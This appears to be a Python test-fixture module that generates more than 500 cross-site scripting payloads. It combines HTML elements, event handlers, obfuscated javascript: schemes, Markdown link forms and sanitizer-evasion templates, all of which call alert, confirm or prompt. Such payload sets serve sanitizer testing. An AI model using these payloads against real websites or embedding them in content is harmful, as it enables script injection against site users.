"""Things that people type to make a browser run them: our own set over the known classes, made by combination."""

from collections.abc import Iterator
from html import escape
from itertools import product

CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "confirm(document.domain)", "prompt()")
EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart",
    "onpointerenter", "onbegin", "onpageshow", "onhashchange", "onscroll", "onwheel", "oninput", "onauxclick",
    "ontransitionend", "onbeforetoggle", "oncopy", "onsubmit",
)  # fmt: skip
ELEMENTS = (
    "img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "audio src=x", "iframe src=x",
    "a href=# autofocus tabindex=1", "math", "marquee", "object data=x", "embed src=x", "style", "select autofocus",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "javascript&colon;",
    "&#106;avascript:", "&#x6A;avascript:", "%6aavascript:", "vbscript:", "data:text/html,<script>", "//javascript:",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#", "feed:javascript:", "blob:javascript:",
)  # fmt: skip
LINKS = (
    "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x]: {}\n\n[x]", '<a href="{}">x</a>', "<a href='{}'>x</a>",
    '[x](https://a.example "{}")', "[{}](https://a.example)", "https://a.example/{}",
)  # fmt: skip
SCRIPTS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script src=data:,{}></script>", "<scr<script>ipt>{}</script>",
    "</textarea><script>{}</script>", "--><script>{}</script><!--", "]]><script>{}</script>", "</title><script>{}</script>",
    "<svg><script>{}</script></svg>", "<math><mtext><script>{}</script>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<iframe srcdoc='<script>{}</script>'>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=javascript:{}>", "<base href=javascript:{}//>", "<form action=javascript:{}><button>",
    "<style>@import 'javascript:{}';</style>", "<p style='background:url(javascript:{})'>", "<template><img src=x onerror={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg onload={}>#x'/>",
    "\\<script>{}</script>", "`<script>{}</script>", "```\n</code></pre><script>{}</script>\n```", "> <script>{}</script>",
    "{{% debug %}}{{{{{}}}}}", "${{{}}}", "<!--/discussion--><script>{}</script>", "<!--discussion {{}}--><img src=x onerror={}>",
    "\u202e<script>{}</script>", "\x00<script>{}</script>", "+ADw-script+AD4-{}+ADw-/script+AD4-", "<img src=`x`onerror={}>",
    "<img\x0csrc=x\x0conerror={}>", "<img/src=x/onerror={}>", "<<script>{}//<</script>", "<img src=x onerror\x0b={}>",
)  # fmt: skip


def payloads() -> list[str]:
    """Each once, in a fixed order; more than 500."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for element, event in product(ELEMENTS, EVENTS):
        yield f'"><{element} {event}={CALLS[len(element) % len(CALLS)]}>'
    for scheme, link in product(SCHEMES, LINKS):
        yield link.format(f"{scheme}alert(1)")
    for script, call in product(SCRIPTS, CALLS):
        yield script.format(call)
    for event in EVENTS:
        yield f'x" {event}="alert(1)" y="'
        yield f"x' {event}='alert(1)' y='"
        yield escape(f"<img src=x {event}=alert(1)>")
